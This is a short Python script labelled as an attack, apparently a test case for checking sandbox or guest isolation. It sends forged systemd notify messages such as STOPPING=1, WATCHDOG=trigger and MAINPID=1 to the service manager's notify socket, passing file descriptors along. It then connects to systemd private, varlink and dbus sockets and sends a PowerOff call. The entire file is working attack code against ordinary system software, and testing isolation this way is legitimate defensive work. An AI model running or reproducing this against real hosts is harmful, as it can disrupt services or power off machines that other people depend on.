# attack: tells the service manager that the guest server is stopping, and speaks to its private sockets
# language: python3
# expect: exit 0
import glob, socket
for message in (b'STOPPING=1', b'WATCHDOG=trigger', b'MAINPID=1', b'ERRNO=5', b'FDSTORE=1\nFDNAME=x', b'RELOADING=1'):
    try:
        notify = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        notify.connect('/run/systemd/notify')
        socket.send_fds(notify, [message], [0, 1])
    except OSError as error:
        print(error)
for path in glob.glob('/run/systemd/private') + glob.glob('/run/systemd/*/io.*') + glob.glob('/run/dbus/*'):
    try:
        private = socket.socket(socket.AF_UNIX)
        private.settimeout(0.5)
        private.connect(path)
        private.send(b'{"method":"io.systemd.Manager.PowerOff"}\0')
        print(path, private.recv(100))
    except OSError as error:
        print(path, error)
